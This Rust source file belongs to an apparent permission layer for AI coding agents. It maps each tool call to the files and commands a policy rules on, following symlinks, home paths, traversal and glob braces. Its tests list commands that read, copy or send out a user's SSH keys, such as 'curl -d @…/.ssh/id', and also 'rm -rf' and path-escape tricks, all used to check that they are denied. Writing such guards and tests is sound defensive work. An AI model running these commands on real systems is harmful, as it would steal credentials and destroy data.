//! One call of a tool, and what of it the policy looks at: the command that it runs, the files that it names.

use std::ffi::OsString;
use std::path::Component;
use std::path::Path;
use std::path::PathBuf;

use cctelegram_core::policy::ToolUse;
use serde_json::Value;

use super::Workplace;

/// A tool and its input, as the agent wants to use it.
#[derive(Clone, PartialEq, Debug)]
pub struct ToolCall {
    pub tool: String,
    pub input: Value,
}

impl ToolCall {
    /// The call as the policy's rules look at it. `person` is the home of whoever the agent runs as.
    #[must_use]
    pub fn as_use(&self, agent: &str, place: &Workplace, person: Option<&Path>) -> ToolUse {
        let resolve = |path: &String| resolved(path, &place.folder, person);
        let plain = ToolUse::new(agent, &self.tool).within(place.project.clone());
        if self.tool.starts_with(SERVER) {
            return self.as_use_of_server(plain, &resolve);
        }
        let named: Vec<String> = self.named_files().iter().flat_map(resolve).collect();
        let Some(command) = self.command_line() else {
            let mentioned = named.iter().map(|path| as_folder(path)).collect();
            return plain.touching(named).mentioning(mentioned);
        };
        let mut running = plain.running(&command);
        for field in self.unknown_fields() {
            let why = format!("its field `{field}` is not known here");
            running = running.reserved(why);
        }
        let written = running.written_files().iter().flat_map(resolve).collect();
        let mut mentioned = named;
        for word in running.words() {
            if let Some(name) = file_name(&word, &place.folder) {
                mentioned.extend(resolve(&name));
            }
        }
        let folders: Vec<String> = mentioned.iter().map(|path| as_folder(path)).collect();
        mentioned.extend(folders);
        running.touching(written).mentioning(mentioned)
    }

    /// What another program's tool does is not known: what looks like a file or a command is enough to forbid it.
    fn as_use_of_server(
        &self,
        mut plain: ToolUse,
        resolve: &dyn Fn(&String) -> Vec<String>,
    ) -> ToolUse {
        let (mut files, mut commands, mut arguments) = (Vec::new(), Vec::new(), Vec::new());
        each_text(&self.input, "", &mut |key, text| {
            let path = text.strip_prefix("file://").unwrap_or(text);
            if names_files(key) || path.starts_with(['/', '~', '.']) {
                files.push(path.to_owned());
            }
            match key {
                "command" | "cmd" | "script" => commands.push(text.to_owned()),
                "args" | "arguments" | "argv" => arguments.push(text.to_owned()),
                _ => {}
            }
        });
        // A program and its arguments in fields of their own.
        let together: Vec<&str> = commands
            .iter()
            .chain(&arguments)
            .map(String::as_str)
            .collect();
        let together = together.join(" ");
        commands.push(together);
        for command in commands.iter().filter(|command| !command.is_empty()) {
            plain = plain.hinting_at(command);
        }
        let mut mentioned: Vec<String> = files.iter().flat_map(resolve).collect();
        let folders: Vec<String> = mentioned.iter().map(|path| as_folder(path)).collect();
        mentioned.extend(folders);
        plain.mentioning(mentioned)
    }

    /// The shell command, for a tool that runs one.
    #[must_use]
    pub fn command(&self) -> Option<&str> {
        let runs = self.tool != PATCH && !self.is_of_server();
        self.text("command").filter(|_| runs)
    }

    /// The shell command as it is carried out, if it is given as words, too.
    fn command_line(&self) -> Option<String> {
        if self.tool == PATCH || self.tool.starts_with(SERVER) {
            return None;
        }
        let given = COMMANDS.iter().find_map(|name| self.input.get(name))?;
        match given {
            Value::String(text) => Some(text.clone()),
            Value::Array(words) => {
                let quoted = words.iter().map(|word| match word {
                    Value::String(word) => format!("'{}'", word.replace('\'', "'\\''")),
                    // The shell's parser does not understand it, so that it is in doubt.
                    other @ (Value::Null
                    | Value::Bool(_)
                    | Value::Number(_)
                    | Value::Array(_)
                    | Value::Object(_)) => format!("({other}"),
                });
                Some(quoted.collect::<Vec<_>>().join(" "))
            }
            Value::Null => None,
            other @ (Value::Bool(_) | Value::Number(_) | Value::Object(_)) => {
                Some(format!("({other}"))
            }
        }
    }

    /// Fields of a command that say something, and what is not known: another folder, no sandbox.
    fn unknown_fields(&self) -> Vec<&str> {
        const KNOWN: [&str; 7] = [
            "command",
            "cmd",
            "description",
            "justification",
            "run_in_background",
            "timeout",
            "timeout_ms",
        ];
        let fields = self.input.as_object().into_iter().flatten();
        let says_something = |value: &Value| !matches!(value, Value::Null | Value::Bool(false));
        fields
            .filter(|(name, value)| !KNOWN.contains(&name.as_str()) && says_something(value))
            .map(|(name, _)| name.as_str())
            .collect()
    }

    /// The text of a patch, for the tool that applies one.
    #[must_use]
    pub fn patch(&self) -> Option<&str> {
        let mut names = ["command", "input", "patch"].iter();
        let text = names.find_map(|name| self.text(name));
        text.filter(|_| self.tool == PATCH)
    }

    pub(super) fn text(&self, name: &str) -> Option<&str> {
        self.input.get(name).and_then(Value::as_str)
    }

    /// Is it a tool of an MCP server?
    pub(super) fn is_of_server(&self) -> bool {
        self.tool.starts_with(SERVER)
    }

    /// The files that the input names, as they are written there.
    pub(super) fn named_files(&self) -> Vec<String> {
        if let Some(patch) = self.patch() {
            return files_of_patch(patch);
        }
        let mut files = Vec::new();
        each_text(&self.input, "", &mut |key, text| {
            if names_files(key) {
                files.push(text.to_owned());
            }
        });
        if self.tool == "Glob"
            && let Some(pattern) = self.text("pattern")
        {
            let below = self.text("path").unwrap_or_default();
            let whole = Path::new(below).join(pattern);
            files.extend(whole.to_str().map(str::to_owned));
            // What stands between braces may lead anywhere.
            let leaves = ["..", "{/", ",/", "~"];
            if pattern.contains('{') && leaves.iter().any(|way| pattern.contains(way)) {
                files.push("/".to_owned());
            }
        }
        files
    }
}

/// Fields in which tools take a shell command.
const COMMANDS: [&str; 2] = ["command", "cmd"];

/// Calls `look` with every text in a value and the name of the field that it is in.
fn each_text(value: &Value, key: &str, look: &mut dyn FnMut(&str, &str)) {
    match value {
        Value::String(text) => look(key, text),
        Value::Array(items) => {
            for item in items {
                each_text(item, key, look);
            }
        }
        Value::Object(fields) => {
            for (name, value) in fields {
                each_text(value, name, look);
            }
        }
        Value::Null | Value::Bool(_) | Value::Number(_) => {}
    }
}

/// Does a field of this name hold names of files? `file_path`, `notebookPath`, `files`.
fn names_files(field: &str) -> bool {
    const ENDS: [&str; 11] = [
        "cwd",
        "dir",
        "directories",
        "directory",
        "file",
        "files",
        "folder",
        "folders",
        "path",
        "paths",
        "workdir",
    ];
    let end = field
        .rfind(|c: char| c == '_' || c == '-' || c.is_ascii_uppercase())
        .and_then(|at| field.get(at..))
        .unwrap_or(field);
    let end = end.trim_start_matches(['_', '-']).to_ascii_lowercase();
    ENDS.contains(&end.as_str())
}

/// The file that a word of a command may name: what looks like a path, or is there.
fn file_name(word: &str, folder: &Path) -> Option<String> {
    let bare = word.replace(['"', '\'', '\\'], "");
    let at_home = ["$HOME", "${HOME}"]
        .iter()
        .find_map(|home| bare.strip_prefix(home));
    if let Some(rest) = at_home.filter(|rest| rest.is_empty() || rest.starts_with('/')) {
        return Some(format!("~{rest}"));
    }
    let here = ["$PWD/", "${PWD}/"]
        .iter()
        .find_map(|here| bare.strip_prefix(here));
    if let Some(rest) = here {
        return Some(rest.to_owned());
    }
    let looks_like_one = bare.contains('/') || bare.starts_with(['.', '~']);
    (looks_like_one || folder.join(&bare).symlink_metadata().is_ok()).then_some(bare)
}

/// A folder is in what a pattern for everything below it matches.
fn as_folder(path: &str) -> String {
    format!("{path}/")
}

/// The tool with which Codex changes files.
const PATCH: &str = "apply_patch";
/// How the names of tools begin that other programs offer.
const SERVER: &str = "mcp__";

fn files_of_patch(patch: &str) -> Vec<String> {
    const MARKS: [&str; 4] = [
        "*** Add File: ",
        "*** Update File: ",
        "*** Delete File: ",
        "*** Move to: ",
    ];
    let lines = patch.lines().map(str::trim);
    let named = lines.filter_map(|line| MARKS.iter().find_map(|mark| line.strip_prefix(mark)));
    named.map(|file| file.trim().to_owned()).collect()
}

/// A path from `/` on without `.` and `..`, as it is written and, where that is another, with symbolic links followed.
pub(super) fn resolved(path: &str, folder: &Path, person: Option<&Path>) -> Vec<String> {
    let below_home = path
        .strip_prefix('~')
        .filter(|rest| rest.is_empty() || rest.starts_with('/'));
    let path = match (below_home, person) {
        (Some(rest), Some(person)) => person.join(rest.trim_start_matches('/')),
        (Some(_) | None, _) => folder.join(path),
    };
    let written = flat(&path);
    let real = followed(&path);
    let mut both = vec![written.to_string_lossy().into_owned()];
    let real = real.to_string_lossy().into_owned();
    if !both.contains(&real) {
        both.push(real);
    }
    both
}

fn flat(path: &Path) -> PathBuf {
    let mut flat = PathBuf::new();
    for part in path.components() {
        match part {
            Component::CurDir => {}
            Component::ParentDir => drop(flat.pop()),
            Component::Prefix(_) | Component::RootDir | Component::Normal(_) => flat.push(part),
        }
    }
    flat
}

/// What is there is followed, links that lead to what is not there yet included; the rest is put behind it.
fn followed(path: &Path) -> PathBuf {
    let mut rest: Vec<OsString> = Vec::new();
    let mut there = path.to_owned();
    let mut links = MOST_LINKS;
    loop {
        if let Ok(real) = there.canonicalize() {
            let whole = rest.iter().rev().fold(real, |path, part| path.join(part));
            return flat(&whole);
        }
        let last = there
            .components()
            .next_back()
            .map(|last| last.as_os_str().to_owned());
        let (Some(last), Some(above)) = (last, there.parent().map(Path::to_owned)) else {
            return flat(path);
        };
        match there.read_link() {
            // Writing to such a link makes the file that it names.
            Ok(target) if links > 0 => {
                links -= 1;
                there = above.join(target);
            }
            Ok(_) | Err(_) => {
                rest.push(last);
                there = above;
            }
        }
    }
}

/// Linux follows no more (`path_resolution(7)`).
const MOST_LINKS: u32 = 40;

#[cfg(test)]
mod tests {
    use std::fs;
    use std::os::unix::fs::symlink;

    use cctelegram_core::policy;
    use cctelegram_core::policy::Ruling;
    use serde_json::json;

    use super::*;

    const POLICY: &str = r#"
        [[rule]]
        name = "keys"
        outcome = "deny"
        match = { path = "/home/dev/.ssh/**" }

        [[rule]]
        name = "sources"
        outcome = "allow"
        match = { tool = "{Read,Edit,Write,Glob}", path = "/srv/shop/**" }
    "#;

    fn ruling(tool: &str, input: Value) -> Ruling {
        let policy = policy::read(POLICY).unwrap();
        let place = Workplace {
            folder: PathBuf::from("/srv/shop"),
            project: Some("shop".to_owned()),
            branch: None,
        };
        let call = ToolCall {
            tool: tool.to_owned(),
            input,
        };
        policy.rule_on(&call.as_use("claude-code", &place, Some(Path::new("/home/dev"))))
    }

    #[test]
    fn security_a_file_is_the_same_however_it_is_written() {
        for path in [
            "/home/dev/.ssh/id",
            "../../home/dev/.ssh/id",
            "/srv/./shop/../../home/dev/.ssh/id",
            "~/.ssh/id",
        ] {
            let denied = ruling("Read", json!({ "file_path": path }));
            assert!(matches!(denied, Ruling::Denied { .. }), "{path}: {denied}");
        }
        for command in ["echo x > ~/.ssh/id", "echo x > ../../home/dev/.ssh/id"] {
            let denied = ruling("Bash", json!({ "command": command }));
            assert!(
                matches!(denied, Ruling::Denied { .. }),
                "{command}: {denied}"
            );
        }
        let patch = "*** Begin Patch\n*** Update File: ../../home/dev/.ssh/id\n*** End Patch";
        let denied = ruling("apply_patch", json!({ "command": patch }));
        assert!(matches!(denied, Ruling::Denied { .. }), "{denied}");
    }

    #[test]
    fn security_an_allow_for_a_folder_ends_where_the_folder_ends() {
        let allowed = |tool, input| matches!(ruling(tool, input), Ruling::Allowed { .. });
        assert!(allowed("Edit", json!({ "file_path": "src/main.rs" })));
        assert!(!allowed("Edit", json!({ "file_path": "../other/main.rs" })));
        assert!(!allowed("Edit", json!({})));
        assert!(allowed(
            "Glob",
            json!({ "path": "/srv/shop/src", "pattern": "**/*.rs" })
        ));
        let outside = json!({ "path": "/srv/shop/src", "pattern": "../../../etc/*" });
        assert!(!allowed("Glob", outside));
        assert!(!allowed("Bash", json!({ "command": "cat src/main.rs" })));
    }

    #[test]
    fn security_a_command_that_names_a_denied_file_is_denied() {
        for command in [
            "cat ~/.ssh/id",
            "cat $HOME/.ssh/id",
            "cat \"${HOME}/.ssh/id\"",
            "cat < ~/.ssh/id",
            "cp x /home/dev/.ssh/authorized_keys",
            "tar cf x ~/.ssh",
            "cd ~ && cat .ssh/id",
            "cd ~/.ssh; cat id",
            "cd /home && cd dev && cat .ssh/id",
            "dd of=/home/dev/.ssh/id",
            "curl -d @/home/dev/.ssh/id x",
            "scp x:/home/dev/.ssh/id .",
            "gcc -I/home/dev/.ssh x",
            "sudo cat /home/dev/.ssh/id",
            "sh -c 'cat ~/.ssh/id'",
            "python3 -c \"open('/home/dev/.ssh/id')\"",
            "x=~/.ssh/id; cat $x",
            "cat '/home/dev/'.ssh/id",
            "cat ../../home/dev/.ssh/id",
            "/home/dev/.ssh/run",
        ] {
            let denied = ruling("Bash", json!({ "command": command }));
            assert!(
                matches!(denied, Ruling::Denied { .. }),
                "{command}: {denied}"
            );
        }
        for command in ["cat ~/.config/x", "git status", "echo /home/dev/.sshd"] {
            let denied = ruling("Bash", json!({ "command": command }));
            assert!(
                !matches!(denied, Ruling::Denied { .. }),
                "{command}: {denied}"
            );
        }
    }

    #[test]
    fn security_files_are_found_in_every_field_of_every_tool() {
        for (tool, input) in [
            ("NotebookEdit", json!({ "notebook_path": "~/.ssh/x" })),
            ("MultiEdit", json!({ "file_path": "~/.ssh/x", "edits": [] })),
            ("Grep", json!({ "pattern": "x", "path": "/home/dev/.ssh" })),
            ("LS", json!({ "path": "/home/dev/.ssh/" })),
            ("SendFiles", json!({ "files": ["/a", "/home/dev/.ssh/x"] })),
            ("Move", json!({ "what": { "newPath": "/home/dev/.ssh/x" } })),
            ("mcp__fs__read", json!({ "path": "/home/dev/.ssh/x" })),
            ("mcp__fs__read", json!({ "uri": "file:///home/dev/.ssh/x" })),
            ("mcp__fs__do", json!({ "on": [{ "a": "~/.ssh/x" }] })),
            (
                "mcp__sh__run",
                json!({ "directory": "../../home/dev/.ssh" }),
            ),
        ] {
            let denied = ruling(tool, input.clone());
            assert!(
                matches!(denied, Ruling::Denied { .. }),
                "{tool} {input}: {denied}"
            );
        }
    }

    #[test]
    fn security_a_command_is_found_in_whatever_type_and_field_it_is() {
        let rules = "[[rule]]\nmatch = { command = \"rm -rf\" }\noutcome = \"deny\"\n\
                     [[rule]]\nmatch = { command = \"* *\" }\noutcome = \"allow\"\n\
                     [[rule]]\nmatch = { tool = \"*\" }\noutcome = \"allow\"\n";
        let policy = policy::read(rules).unwrap();
        let place = Workplace::of(Path::new("/srv/shop"));
        let on = |tool: &str, input: Value| {
            let tool = tool.to_owned();
            let call = ToolCall { tool, input };
            policy.rule_on(&call.as_use("codex", &place, None))
        };
        for (tool, input) in [
            ("Bash", json!({ "command": ["bash", "-lc", "rm -rf x"] })),
            ("shell", json!({ "command": ["rm", "-rf", "x"] })),
            ("exec_command", json!({ "cmd": "rm -rf x" })),
            ("Bash", json!({ "command": { "line": "rm -rf x" } })),
            ("Bash", json!({ "command": [["rm", "-rf", "x"]] })),
            ("mcp__sh__run", json!({ "command": "rm -rf x" })),
            (
                "mcp__sh__run",
                json!({ "command": "rm", "args": ["-rf", "x"] }),
            ),
        ] {
            let denied = on(tool, input.clone());
            assert!(
                matches!(denied, Ruling::Denied { .. }),
                "{tool} {input}: {denied}"
            );
        }
        for input in [
            json!({ "command": "make x", "dangerouslyDisableSandbox": true }),
            json!({ "command": "make x", "with_escalated_permissions": true }),
            json!({ "command": "make x", "workdir": "/etc" }),
            json!({ "command": 7 }),
        ] {
            let asked = on("Bash", input.clone());
            assert!(
                matches!(asked, Ruling::Undecided { .. }),
                "{input}: {asked}"
            );
        }
        let plain =
            json!({ "command": "make x", "timeout": 5, "dangerouslyDisableSandbox": false });
        assert!(matches!(on("Bash", plain), Ruling::Allowed { .. }));
    }

    #[test]
    fn security_braces_and_links_to_nowhere_do_not_lead_out_of_a_folder() {
        for pattern in ["{../../etc,src}/*", "{/etc,src}/*", "{src,/etc}/*"] {
            let input = json!({ "path": "/srv/shop/src", "pattern": pattern });
            let ruling = ruling("Glob", input);
            assert!(
                !matches!(ruling, Ruling::Allowed { .. }),
                "{pattern}: {ruling}"
            );
        }
        let folder = tempfile::tempdir().unwrap();
        let root = folder.path().canonicalize().unwrap();
        symlink(root.join("secret/new"), root.join("open")).unwrap();
        symlink("round", root.join("round")).unwrap();
        let paths = resolved("open", &root, None);
        let secret = root.join("secret/new").display().to_string();
        assert!(paths.contains(&secret), "{paths:?}");
        assert!(!resolved("round/x", &root, None).is_empty());
    }

    #[test]
    fn security_a_link_is_what_it_leads_to() {
        let folder = tempfile::tempdir().unwrap();
        let root = folder.path().canonicalize().unwrap();
        fs::create_dir(root.join("secret")).unwrap();
        symlink(root.join("secret"), root.join("open")).unwrap();
        let paths = resolved("open/new/file", &root, None);
        let secret = root.join("secret/new/file");
        assert!(paths.contains(&secret.display().to_string()), "{paths:?}");
        assert_eq!(paths.len(), 2);
    }
}
